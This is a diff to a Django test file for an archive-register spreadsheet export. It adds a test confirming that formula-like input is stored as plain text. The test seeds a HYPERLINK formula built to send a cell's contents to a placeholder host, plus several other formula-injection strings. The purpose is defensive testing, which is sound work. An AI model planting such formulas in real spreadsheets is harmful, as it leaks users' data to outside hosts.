@@ -1,7 +1,10 @@
-"""Small hardening of inputs and outputs."""
+"""Small hardening: the importer's file-number message, junk ids in retention forms, and
+spreadsheet formula injection in the daftar arsip export."""
 
+import io
 from datetime import date
 
+import openpyxl
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
@@ -48,3 +51,19 @@ def test_junk_file_ids_in_the_move_to_inactive_form_are_ignored(client, arsipari
     assert response.status_code == 302
     naskah.berkas.refresh_from_db()
     assert naskah.berkas.status_retensi == "inaktif"
+
+
+def test_export_writes_formula_like_text_as_plain_text(client, arsiparis, make_naskah, office,
+                                                       unit):
+    evil = '=HYPERLINK("http://contoh.invalid/?x="&A1,"klik")'
+    make_naskah(office=office, unit=unit, created_by=arsiparis, perihal=evil,
+                nomor_surat="+62-1", keterangan="@SUM(1+1)", dari="-2+3")
+    client.force_login(arsiparis)
+    exported = client.get(reverse("arsip:export"))
+    sheet = openpyxl.load_workbook(io.BytesIO(exported.content)).active
+    row = [sheet.cell(4, col) for col in range(1, 18)]
+    by_header = {sheet.cell(3, i + 1).value: cell for i, cell in enumerate(row)}
+    for header, text in [("Uraian Informasi Item", evil), ("Nomor Naskah", "+62-1"),
+                         ("Keterangan", "@SUM(1+1)")]:
+        cell = by_header[header]
+        assert cell.value == text and cell.data_type == "s", header
